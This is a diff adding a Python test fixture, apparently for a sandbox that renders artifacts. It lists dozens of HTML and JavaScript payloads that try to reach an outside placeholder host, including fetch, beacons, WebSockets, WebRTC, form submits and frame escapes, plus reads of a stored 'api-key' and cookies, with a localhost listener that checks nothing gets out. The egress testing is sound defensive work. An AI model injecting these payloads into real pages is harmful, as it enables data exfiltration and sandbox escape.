@@ -1,0 +1,88 @@
+"""Ways out of an artifact, and a host outside that must hear nothing of them. `$` stands for the host's address."""
+
+from __future__ import annotations
+
+import socket
+import threading
+from contextlib import ExitStack
+
+WEBRTC = (
+    "const p = new RTCPeerConnection({iceServers: [{urls: '$'.replace('http://', 'stun:')}]});"
+    " p.createDataChannel('x');"
+    " p.createOffer().then(offer => p.setLocalDescription(offer))"
+)
+ESCAPES = {
+    "fetch": "<script>fetch('$/x').catch(() => 0)</script>",
+    "image": "<img src='$/x'><picture><source srcset='$/x'><img></picture>",
+    "location": "<script>location = '$/x'</script>",
+    "refresh": "<meta http-equiv=refresh content='0;url=$/x'>",
+    "link": "<a id=a href='$/x'>x</a><script>a.click()</script>",
+    "link to a new tab": "<a id=a target=_blank href='$/x'>x</a><script>a.click()</script>",
+    "link to the top": "<a id=a target=_top href='$/x'>x</a><script>a.click()</script>",
+    "ping": "<a id=a href='#' ping='$/x'>x</a><script>a.click()</script>",
+    "download": "<a id=a download href='$/x'>x</a><script>a.click()</script>",
+    "window": "<script>window.open('$/x')</script>",
+    "top": "<script>try { top.location = '$/x' } catch {}</script>",
+    "parent": "<script>try { parent.document.title = 'owned' } catch {}</script>",
+    "parent's place": "<script>try { parent.location = '$/x' } catch {}</script>",
+    "message": "<script>parent.postMessage({owned: 1}, '*'); top.postMessage('owned', '*')</script>",
+    "form": "<form id=f action='$/x'><input name=a></form><script>f.submit()</script>",
+    "beacon": "<script>navigator.sendBeacon('$/x', 'x')</script>",
+    "socket": "<script>new WebSocket('$/x'.replace('http', 'ws'))</script>",
+    "events": "<script>new EventSource('$/x')</script>",
+    "prefetch": "<link rel=prefetch href='$/x'><link rel=preload as=image href='$/x'>",
+    "module": "<link rel=modulepreload href='$/x'>",
+    "preconnect": "<link rel=preconnect href='$'><link rel=dns-prefetch href='$'>",
+    "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["$/x"], "eagerness": "immediate"}]}</script>',
+    "script": "<script src='$/x'></script><script>import('$/x').catch(() => 0)</script>",
+    "worker": "<script>try { new Worker(URL.createObjectURL(new Blob([`fetch('$/x')`]))) } catch {}</script>",
+    "frame": "<iframe src='$/x'></iframe><object data='$/x'></object><embed src='$/x'>",
+    "frame of its own": "<iframe srcdoc=\"<script>fetch('$/x'); location = '$/x'</script>\"></iframe>",
+    "style": "<style>@import '$/x'; body { background: url($/x) }</style>",
+    "font": "<style>@font-face { font-family: f; src: url($/x) } p { font-family: f }</style><p>x",
+    "media": "<video src='$/x' autoplay></video><audio src='$/x' autoplay></audio>",
+    "svg": "<svg><image href='$/x'/><use href='$/x#a'/></svg>",
+    "webrtc": f"<script>{WEBRTC}</script>",
+    "webrtc in a frame": f'<iframe srcdoc="<script>{WEBRTC}</script>"></iframe>',
+    "document": "<script>setTimeout(() => { document.open(); document.write('<img src=$/x>') })</script>",
+    "storage": "<script>try { localStorage.getItem('api-key') } catch {} try { document.cookie } catch {}</script>",
+    "own server": "<script>location = new URL('/v1/models', document.baseURI)</script>",
+    "own server's answer": "<script>fetch(new URL('/v1/models', document.baseURI)).catch(() => 0)</script>",
+}
+
+
+class Listener:
+    """A host that must hear nothing: TCP and UDP on one port."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+        self._stack = ExitStack()
+        self._tcp = self._stack.enter_context(socket.create_server(("127.0.0.1", 0)))
+        self.port = self._tcp.getsockname()[1]
+        self._udp = self._stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+        self._udp.bind(("127.0.0.1", self.port))
+        for listen in (self._accept, self._receive):
+            threading.Thread(target=listen, daemon=True).start()
+
+    def close(self) -> None:
+        self._stack.close()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                connection, _ = self._tcp.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(1)
+                try:
+                    self.heard.append(connection.recv(100))
+                except OSError:
+                    self.heard.append(b"a connection")
+
+    def _receive(self) -> None:
+        while True:
+            try:
+                self.heard.append(self._udp.recv(100))
+            except OSError:
+                return
